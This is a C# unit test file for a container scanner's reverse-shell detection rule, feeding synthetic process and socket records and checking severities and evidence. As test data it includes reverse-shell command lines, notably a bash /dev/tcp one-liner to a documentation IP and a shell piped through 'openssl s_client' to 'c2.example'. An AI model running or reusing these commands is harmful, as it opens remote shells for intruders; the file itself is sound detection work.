using DockerScan.Core.Findings;
using DockerScan.Sentinel.Events;

namespace DockerScan.Scanners.Tests.Sandbox.Analysis.Rules;

public sealed class ReverseShellRuleTests
{
    [Fact]
    public void Find_ShellOnASocket_IsCriticalWithProcessAndDescriptors()
    {
        var record = new RecordBuilder().Process(1, "/app").Process(12, "/bin/bash", "bash -i", uid: 33, at: 2)
            .Connect(12, "203.0.113.9", 4444, null, "shell", "a prompt", 2.1, "bash: no job control in this shell\nwww-data@x:/$ ", hasSocket: false)
            .Socket(12, "203.0.113.9", 4444, 40001, 2.2, "tcp", 0, 1, 2);

        var found = Assert.Single(TestBehavior.Findings(record, "behavior.reverse-shell"));

        Assert.Equal((Severity.Critical, "203.0.113.9:4444"), (found.Severity, found.Location));
        Assert.Contains("/bin/bash (pid 12, uid 33): file descriptors 0, 1, 2 are tcp to 203.0.113.9:4444", found.Evidence, StringComparison.Ordinal);
        Assert.Contains("no job control", found.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Find_InterpreterThatWaitsForItsShell_IsHigh()
        => Assert.Equal(Severity.High, Assert.Single(TestBehavior.Findings(
            new RecordBuilder().Process(1, "/usr/bin/python3", "python3 -c import pty").Socket(1, "203.0.113.9", 4444, 0, 1, "tcp", 0, 1, 2), "behavior.reverse-shell")).Severity);

    [Fact]
    public void Find_ShellThatWaitsForAService_IsNothing()
        => Assert.Empty(TestBehavior.Findings(
            new RecordBuilder().Process(1, "/bin/bash", "bash /wait.sh", at: 0).Process(4, "/bin/bash", "bash -c echo > /dev/tcp/db/5432", at: 1, end: 1.2).Socket(4, "198.18.0.9", 5432, 0, 1.1, "tcp", 1), "behavior.reverse-shell"));

    [Fact]
    public void Find_BusyboxAsShellWithOnlyItsInput_IsFoundWhenItLasts()
        => Assert.Single(TestBehavior.Findings(new RecordBuilder().Process(1, "/bin/busybox", "sh -i").Socket(1, "203.0.113.9", 4444, 0, 1, "tcp", 0), "behavior.reverse-shell"));

    [Fact]
    public void Find_BusyboxAsNetcat_IsNoShell()
        => Assert.Empty(TestBehavior.Findings(new RecordBuilder().Process(1, "/bin/busybox", "nc 203.0.113.9 80").Socket(1, "203.0.113.9", 80, 0, 1, "tcp", 1), "behavior.reverse-shell"));

    [Fact]
    public void Find_ServerThatInetdStarts_IsInward()
        => Assert.Empty(TestBehavior.Findings(
            new RecordBuilder().Process(1, "/usr/sbin/inetd").Listen(1, 79).Process(8, "/bin/sh", "sh /srv/finger").Socket(8, "192.0.2.7", 50123, 79, 3, "tcp", 0, 1, 2), "behavior.reverse-shell"));

    // SO_REUSEPORT: out from the port that it listens on, so that the connection looks like one that came in.
    [Fact]
    public void Find_ConnectionFromAPortThatIsListenedOn_IsOutwardAsTheKernelTold()
        => Assert.Equal("203.0.113.9:4444", Assert.Single(TestBehavior.Findings(
            new RecordBuilder().Process(1, "/srv/app").Listen(1, 8080).Process(8, "/bin/sh", "sh").Inspect(new ContactEvent(1, "connect", "tcp", "203.0.113.9", 4444), 2).Socket(8, "203.0.113.9", 4444, 8080, 3, "tcp", 0, 1, 2),
            "behavior.reverse-shell")).Location);

    [Fact]
    public void Find_ShellOnLoopback_IsNothing()
        => Assert.Empty(TestBehavior.Findings(new RecordBuilder().Process(1, "/bin/sh").Socket(1, "127.0.0.1", 9000, 0, 1, "tcp", 1), "behavior.reverse-shell"));

    // cat f | sh | openssl s_client > f: the shell has no connection, and what goes out is not readable.
    [Theory]
    [InlineData("/bin/sh", "/bin/sh -i", true)]
    [InlineData("/bin/bash", "bash", true)]
    [InlineData("/bin/busybox", "sh", true)]
    [InlineData("/bin/sh", "/bin/sh -c ls", false)]
    [InlineData("/bin/bash", "bash -e /runner/step.sh", false)]
    [InlineData("/usr/bin/sort", "sort", false)]
    public void Find_ShellBehindAnotherProgramsConnection_IsCriticalWhenItReadsItsCommands(string executable, string command, bool isFound)
    {
        var record = new RecordBuilder().Process(1, "/bin/sh", "sh /x.sh").Process(4, executable, command).Process(5, "/usr/bin/openssl", "openssl s_client -connect c2.example:443")
            .Connect(5, "198.18.0.9", 443, "c2.example", "tls", "TLS").Inspect(new StreamEvent(4, 5, 5), 3);

        var found = TestBehavior.Findings(record, "behavior.reverse-shell");

        Assert.Equal(isFound ? ["Reverse shell to c2.example:443: a shell's input and output lead through other programs to an outgoing connection"] : [], found.Select(each => each.Title));
        Assert.All(found, each => Assert.Contains("goes through /usr/bin/openssl (pid 5", each.Evidence, StringComparison.Ordinal));
    }

    [Fact]
    public void Find_ShellBehindAConnectionThatCameIn_IsNothing()
        => Assert.Empty(TestBehavior.Findings(new RecordBuilder().Process(1, "/usr/bin/ttyd").Listen(1, 7681).Socket(1, "192.0.2.7", 50123, 7681, 3).Process(4, "/bin/bash", "bash").Inspect(new StreamEvent(4, 1, 1), 3),
            "behavior.reverse-shell"));

    [Fact]
    public void Find_OnlyThePrompt_IsFoundWithoutAProcess()
        => Assert.Equal("c2.example:443", Assert.Single(TestBehavior.Findings(
            new RecordBuilder().Process(1, "/a").Process(2, "/b").Connect(1, "198.18.0.3", 443, "c2.example", "shell", "a prompt", bytes: "/ # ", hasSocket: false), "behavior.reverse-shell")).Location);

    [Fact]
    public void Find_OnlyTheCommandLine_IsFound()
        => Assert.Equal("/bin/bash", Assert.Single(TestBehavior.Findings(
            new RecordBuilder().Process(1, "/a").Process(2, "/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), "behavior.reverse-shell")).Location);
}
